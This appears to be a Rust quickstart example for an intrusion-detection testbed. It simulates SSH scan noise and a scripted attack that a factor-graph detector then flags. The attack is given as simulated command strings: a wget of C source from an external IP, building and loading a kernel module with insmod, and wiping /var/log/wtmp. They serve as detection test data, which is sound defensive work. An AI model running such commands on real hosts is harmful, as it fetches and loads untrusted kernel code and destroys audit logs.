//! Quickstart: stand up the testbed, replay a classic S1 attack hidden in
//! scan noise, and watch the factor-graph detector preempt it — then run
//! the same stage pipeline as a sharded record stream via the builder API.
//!
//! ```text
//! cargo run --example quickstart
//! ```

use attack_tagger::prelude::*;

fn main() {
    // Part 1 — closed loop: the simulation engine drives the pipeline
    // sink (inline executor) with response wired back to the border BHR.
    // Pipeline knobs (batching, retention, shards) live on the config.
    let mut cfg = TestbedConfig::default();
    cfg.tuning.alert_retention = 2_000;
    let mut tb = Testbed::new(cfg);
    let start = tb.config().start;

    // Background: a mass scanner hammering SSH across the production /16.
    let scanner: std::net::Ipv4Addr = "103.102.8.9".parse().unwrap();
    let mut actions: Vec<(SimTime, Action)> = Vec::new();
    for i in 0..2_000u64 {
        let t = start + SimDuration::from_millis(500 * i);
        let dst = simnet::addr::ncsa_production().nth(i % 65_536);
        actions.push((t, Action::Flow(Flow::probe(FlowId(i), t, scanner, dst, 22))));
    }

    // The real attack: user "eve" walks the S1 pattern on a compute node
    // (download source over HTTP, compile a kernel module, wipe traces),
    // then exfiltrates.
    let host = simnet::topology::HostId(5);
    let attack = [
        "wget http://64.215.4.5/abs.c",
        "make -C /lib/modules/4.4.0/build modules",
        "insmod abs.ko",
        "echo 0>/var/log/wtmp",
    ];
    for (i, cmd) in attack.iter().enumerate() {
        let t = start + SimDuration::from_mins(10 + 7 * i as u64);
        actions.push((
            t,
            Action::Exec(ExecAction {
                host,
                user: "eve".into(),
                pid: 4_000 + i as u32,
                ppid: 1,
                exe: "/bin/bash".into(),
                cmdline: cmd.to_string(),
            }),
        ));
    }

    tb.schedule(actions);
    let report = tb.run();

    println!("=== AttackTagger quickstart ===");
    println!("{}", report.summary());
    println!();
    for n in &report.notifications {
        println!("[{}] OPERATOR NOTIFICATION: {}", n.ts, n.message());
    }
    assert!(
        !report.notifications.is_empty(),
        "the S1 chain should have been detected"
    );
    println!();
    println!(
        "scan noise collapsed by the filter: {} alerts seen -> {} admitted",
        report.filter.seen, report.filter.admitted
    );

    // Part 2 — the same Fig. 4 chain as a record-stream pipeline,
    // assembled explicitly with the builder and driven by the sharded
    // executor (detect stage partitioned per entity across the worker
    // pool). Results are byte-identical to the sequential executor.
    let records = scenario::record_stream(
        &scenario::RecordStreamConfig {
            scan_records: 20_000,
            benign_flows: 5_000,
            exec_records: 10_000,
            users: 500,
            ..scenario::RecordStreamConfig::default()
        },
        &mut SimRng::seed(7),
    );
    let n = records.len();
    let stream = PipelineBuilder::new()
        .executor(ExecutorKind::Sharded)
        .batch_size(256)
        .alert_retention(1_000)
        .block_on_detection(true, None)
        .build()
        .run(records);
    println!();
    println!(
        "sharded stream: {n} records -> {} alerts, {} admitted, {} detections, {} retained (+{} dropped)",
        stream.stats.alerts,
        stream.stats.admitted,
        stream.stats.detections,
        stream.retained_alerts.len(),
        stream.alerts_dropped,
    );
    assert!(
        stream.stats.detections > 0,
        "the command sessions should trip the detector"
    );
    println!("done.");
}
